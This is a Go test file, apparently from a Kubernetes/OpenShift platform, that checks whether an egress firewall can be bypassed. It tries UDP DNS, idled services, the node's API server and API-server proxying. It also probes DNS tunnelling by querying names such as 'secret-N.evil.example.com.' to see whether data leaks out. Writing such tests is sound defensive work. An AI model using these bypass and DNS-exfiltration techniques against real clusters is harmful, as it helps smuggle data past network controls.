package pod

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/slipway-platform/slipway/test/kit"
)

// TestFirewallCannotBeBypassed tries every way in which a project's administrator could bypass a
// firewall. It first checks that the service and the DNS server outside the cluster respond without
// the firewall. Otherwise, their later silence would not show that the firewall works.
func TestFirewallCannotBeBypassed(t *testing.T) {
	c := kit.Shared(t)
	o := newOutside(t, c)
	c.Apply(task("client"))
	c.WaitPodRunning("client")
	service := func(name, annotations string) {
		c.Apply(fmt.Sprintf(`
apiVersion: v1
kind: Service
metadata: {name: %s, annotations: %s}
spec: {ports: [{port: 8080}]}
---
apiVersion: v1
kind: Endpoints
metadata: {name: %[1]s}
subsets: [{addresses: [{ip: 203.0.113.1}], ports: [{port: 8080}]}]
`, name, annotations))
	}
	service("external", "{}")
	waitExternal(c, "external", "203.0.113.1")
	if output := c.Exec("client", "nslookup", "any.example.com", wrongDNS); !strings.Contains(output, "203.0.113.9") {
		t.Errorf("the DNS server outside responds\n%s", output)
	}
	c.Apply(firewall("default", "Deny 0.0.0.0/0"))
	waitNoExternal(c, "external", "203.0.113.1")
	service("idle", fmt.Sprintf(`{idling.alpha.openshift.io/idled-at: %q, idling.alpha.openshift.io/unidle-targets: "[]"}`, time.Now().UTC().Format(time.RFC3339)))
	for name, command := range map[string][]string{
		"UDP":                        {"timeout", "5", "nslookup", "any.example.com", wrongDNS},
		"idle service":               {"timeout", "8", "wget", "-q", "-O", "-", "http://idle:8080/"},
		"idling of the service":      {"timeout", "8", "wget", "-q", "-O", "-", "http://idle:8080/"},
		"the API server on the node": {"timeout", "5", "wget", "-q", "-O", "-", "http://" + c.Address.String() + ":8443/"},
	} {
		output, err := c.TryOC(append([]string{"exec", "client", "--"}, command...)...)
		if err == nil || strings.Contains(err.Error(), "400 Bad Request") {
			t.Errorf("%s passes the firewall: %s", name, output)
		}
	}
	for _, path := range []string{"/api/v1/namespaces/" + c.Namespace + "/services/external:8080/proxy/", "/api/v1/namespaces/" + c.Namespace + "/services/idle:8080/proxy/"} {
		page, err := c.Client.CoreV1().RESTClient().Get().AbsPath(path).DoRaw(context.Background())
		if err == nil {
			t.Errorf("the API server forwards to the endpoint: %s", page)
		}
	}
	checkTunnel(t, c, o)
}

// checkTunnel tries to send data outside the cluster in DNS queries to the node's DNS server, while
// the firewall denies all addresses. Unless the names are restricted, the data reaches the names'
// authoritative DNS server.
func checkTunnel(t *testing.T, c *kit.Cluster, o *outside) {
	t.Helper()
	number := 0
	// send queries a name that has not been used before. It returns the output and the name.
	send := func() (output, name string) {
		number++
		name = fmt.Sprintf("secret-%d.evil.example.com.", number)
		output, _ = c.TryOC("exec", "client", "--", "timeout", "10", "nslookup", name)
		return output, name
	}
	c.WaitFor("data through the node's DNS server", func(context.Context) error {
		if output, name := send(); !o.received(name) {
			return fmt.Errorf("nslookup prints %q", output)
		}
		return nil
	})
	o.set("www.allowed.example.net.", "A 203.0.113.1")
	c.Apply(firewall("default", "Allow www.allowed.example.net", "Deny 0.0.0.0/0"))
	c.OC("annotate", "egressnetworkpolicy", "default", "slipway.openshift.io/resolve=allowed-names")
	c.WaitFor("rejection of names that no rule allows", func(context.Context) error {
		if _, name := send(); o.received(name) {
			return fmt.Errorf("the DNS server of %s receives it", name)
		}
		return nil
	})
	waitExternal(c, "www.allowed.example.net", "203.0.113.1")
	c.Kill("node")
	c.WaitFor("node process after kill -9", func(context.Context) error {
		output, name := send()
		if o.received(name) {
			t.Errorf("the DNS server of %s receives it while the node process starts", name)
		}
		if !strings.Contains(output, "NXDOMAIN") {
			return fmt.Errorf("nslookup prints %q", output)
		}
		return nil
	})
	waitExternal(c, "www.allowed.example.net", "203.0.113.1")
}
